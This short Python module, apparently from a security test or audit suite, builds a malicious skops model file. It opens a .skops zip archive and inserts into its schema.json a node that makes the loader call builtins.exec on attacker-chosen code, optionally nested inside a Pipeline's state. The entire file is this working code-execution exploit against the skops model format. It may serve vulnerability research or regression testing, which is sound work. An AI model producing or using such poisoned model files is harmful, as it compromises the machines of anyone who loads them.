"""The attack on model files (issue 13 item 2): a node that makes skops call
builtins.exec(code) while loading, added to a saved dict's entries."""

from __future__ import annotations

import io
import json
import zipfile


def with_exec_entry(data: bytes, code: str, inside: str | None = None) -> bytes:
    """`data` (a .skops file) with the payload entry in its top-level dict, or in
    the dict at `schema[inside]` (a Pipeline's state sits under "content")."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    schema = json.loads(members["schema.json"])
    node = schema[inside] if inside else schema
    node["key_types"]["content"].append({"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode",
                                         "__id__": 3})
    node["content"]["payload"] = {
        "__class__": "exec", "__module__": "builtins", "__loader__": "ConstructorFromReduceNode",
        "content": {"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [
            {"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode",
             "content": json.dumps(code), "is_json": True, "__id__": 1}]},
        "__id__": 2,
    }
    members["schema.json"] = json.dumps(schema).encode()
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, member in members.items():
            archive.writestr(name, member)
    return out.getvalue()
